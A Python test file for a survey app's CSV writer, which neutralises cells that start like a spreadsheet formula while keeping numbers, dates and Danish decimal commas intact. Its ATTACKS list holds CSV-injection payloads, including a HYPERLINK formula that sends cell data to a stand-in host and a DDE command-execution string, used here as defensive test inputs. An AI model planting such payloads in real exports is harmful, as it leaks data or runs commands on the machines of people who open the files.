"""The one CSV writer: text that starts like a formula is neutralised, numbers and dates are not."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest

from survey_app import safe_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tfoo",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_csv.cell(text) == "'" + text
    assert safe_csv.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Køge", "1+1", "Sammen med =HYPERLINK", "", "'=allerede", " =1"])
def test_other_text_is_left_as_it_is(text):
    assert safe_csv.cell(text) == text


def test_numbers_and_dates_written_by_the_code_stay_numbers():
    assert safe_csv.cell(-2) == "-2"
    assert safe_csv.cell(-1.5) == "-1.5"
    assert safe_csv.cell(-1.5, decimal_comma=True) == "-1,5"
    assert safe_csv.cell(24.5, decimal_comma=True) == "24,5"
    assert safe_csv.cell(3) == "3"
    assert safe_csv.cell(None) == ""
    assert safe_csv.cell(date(2026, 12, 1)) == "2026-12-01"
    assert safe_csv.cell(datetime(2026, 12, 1, 9, 5, 7)) == "2026-12-01 09:05:07"


def test_the_writer_neutralises_every_text_cell_and_quotes_as_csv_does():
    buffer = io.StringIO()
    writer = safe_csv.writer(buffer, delimiter=";", decimal_comma=True)
    writer.writerow(["group", "mean"])
    writer.writerows([["=1+1", -2.5], ['-"x";y', -3]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["group", "mean"], ["'=1+1", "-2,5"], ['\'-"x";y', "-3"]]


def test_a_template_is_a_header_for_danish_excel():
    assert safe_csv.template(["kommune", "dato", "=s1"]) == "\ufeffkommune;dato;'=s1\r\n"
